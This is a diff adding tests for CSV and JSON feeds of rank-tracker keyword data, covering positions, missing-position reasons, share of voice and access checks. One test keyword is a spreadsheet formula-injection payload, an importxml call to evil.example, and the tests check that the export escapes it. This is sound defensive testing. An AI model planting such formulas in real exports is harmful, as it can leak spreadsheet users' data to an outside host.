@@ -5,6 +5,7 @@ import { type DataFeed, dataFeedsContract, type FeedKind } from '../../src/featu
 import { dataFeedErrorTexts } from '../../src/features/data-feeds/web/error-texts.ts'
 import { listsContract } from '../../src/features/keywords/contract.ts'
 import { listenersContract } from '../../src/features/listeners/contract.ts'
+import { ranksContract } from '../../src/features/ranks/contract.ts'
 import { reportsContract } from '../../src/features/reports/contract.ts'
 import { createSampleReport } from '../support/sample-report.ts'
 import { startTestServer, type TestServer } from '../support/server.ts'
@@ -89,6 +90,110 @@ test('a report, a list, a listener and a plan are read as CSV and JSON without s
   const heard = await readCsv(await add(who, 'listener', listener._id))
   expect(heard.length).toBeGreaterThan(10)
   expect(Object.keys(heard[0]!)).toEqual(['Keyword', 'Type', 'State', 'Sources', 'First seen', 'Last seen'])
+})
+
+/** A tracker with checked keywords, as a source of results pages leaves it. No keywords: it wasn't checked yet. */
+async function addTracker(workspaceId: string, keywords: Record<string, unknown>[]) {
+  const { rows } = await server.database.pool.query<{ id: string }>(
+    `insert into rank_trackers (workspace_id, id, domain, competitors, country, language, device, depth, frequency, source, status)
+     values ($1, gen_random_uuid(), 'hollowoak.example/shop', '{fernway.example}', 'US', 'en', 'mobile', 20, 'weekly', 'serper',
+       'paused')
+     returning id`,
+    [workspaceId],
+  )
+  const id = rows[0]!.id
+  for (const [no, { text, position = null, reason = null, checked_at = null, ...rest }] of keywords.entries())
+    await server.database.pool.query(
+      `insert into rank_keywords (workspace_id, tracker_id, no, text, position, reason, checked_at, previous, previous_at, best,
+         url, features)
+       values ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12)`,
+      [
+        ...[
+          workspaceId,
+          id,
+          no + 1,
+          text,
+          position,
+          reason,
+          checked_at,
+          rest.previous ?? null,
+          rest.previous_at ?? null,
+        ],
+        ...[rest.best ?? null, rest.url ?? null, rest.features ?? []],
+      ],
+    )
+  return id
+}
+
+test('a rank tracker’s feed has a row per keyword, and says why a position is missing', async () => {
+  const who = await server.signUp()
+  const [before, now] = ['2026-03-02T09:00:00.000Z', '2026-03-09T09:00:00.000Z']
+  const url = 'https://hollowoak.example/shop/cold-brew'
+  const features = ['ai_overview', 'people_also_ask']
+  const id = await addTracker(who.workspaceId, [
+    { text: 'a cold brew', position: 1, checked_at: now, previous: 4, previous_at: before, best: 1, url, features },
+    { text: 'b ratio', reason: 'not_in_depth', checked_at: now, previous: 7, previous_at: before, best: 7 },
+    { text: 'c filter', reason: 'failed', checked_at: now, previous: 3, previous_at: before, best: 3 },
+    { text: 'd jar', reason: 'budget', checked_at: now },
+    { text: 'e kit' },
+    { text: '=importxml("http://evil.example","//a")', reason: 'skipped', checked_at: now },
+  ])
+  const feed = await add(who, 'tracker', id)
+  expect(feed).toMatchObject({ kind: 'tracker', title: 'hollowoak.example/shop', section: null })
+  const rows = await readCsv(feed)
+  const alike = { Device: 'mobile', Country: 'US', Language: 'en' }
+  const of = (start: string) => rows.find(({ Keyword }) => Keyword!.startsWith(start))
+  expect(rows).toHaveLength(6)
+  expect(of('a ')).toEqual({
+    ...{ Keyword: 'a cold brew', Position: '1', 'No position because': '', Checked: now, 'Previous position': '4' },
+    ...{ Change: 'up', 'Best position': '1', 'Ranking URL': url, ...alike, 'SERP features': features.join(', ') },
+    // The first result of one measured keyword, and nothing of the other: half of .276 of .863.
+    'Share of voice of the tracker': '0.1599',
+  })
+  expect(of('b ')).toMatchObject({
+    Position: '',
+    'No position because': 'not found',
+    Change: 'lost',
+    'Best position': '7',
+  })
+  expect(of('c ')).toMatchObject({
+    Position: '',
+    'No position because': 'check failed',
+    Change: 'unknown',
+    Checked: now,
+  })
+  expect(of('c ')).toMatchObject({ 'Previous position': '3', 'Ranking URL': '' })
+  expect(of('d ')).toMatchObject({ Position: '', 'No position because': 'over the limit' })
+  expect(of('e ')).toMatchObject({ Position: '', 'No position because': 'not checked yet', Checked: '', ...alike })
+  expect(of("'=")).toMatchObject({
+    Keyword: '\'=importxml("http://evil.example","//a")',
+    'No position because': 'skipped',
+  })
+
+  const json = (await (await open(feed.json_url)).json()) as { meta: object; rows: object[] }
+  expect(json.meta).toEqual({
+    'Last run': '',
+    Depth: '20',
+    'Share of voice: hollowoak.example/shop': '0.1599',
+    'Share of voice: fernway.example': '0',
+  })
+  expect(json.rows).toContainEqual(
+    expect.objectContaining({ keyword: 'c filter', position: null, no_position: 'check failed', previous: 3 }),
+  )
+})
+
+test('a tracker without a measurement has no share of voice; deleted or of another workspace, it isn’t found', async () => {
+  const [who, other] = [await server.signUp(), await server.signUp()]
+  const id = await addTracker(who.workspaceId, [{ text: 'cold brew' }])
+  const feed = await add(who, 'tracker', id)
+  const [row] = await readCsv(feed)
+  expect(Object.keys(row!)).not.toContain('Share of voice of the tracker')
+  const json = (await (await open(feed.json_url)).json()) as { meta: object }
+  expect(json.meta).toEqual({ 'Last run': '', Depth: '20' })
+  await expect(add(other, 'tracker', id)).rejects.toMatchObject({ code: 'not_found' })
+  await expect(add(who, 'tracker', id, 'questions')).rejects.toMatchObject({ options: { field: 'section' } })
+  await who.call(ranksContract.delete, { _id: id })
+  expect((await open(feed.csv_url)).status).toBe(404)
 })
 
 test('a feed follows its table, is the same when asked for again, and says when it was read', async () => {
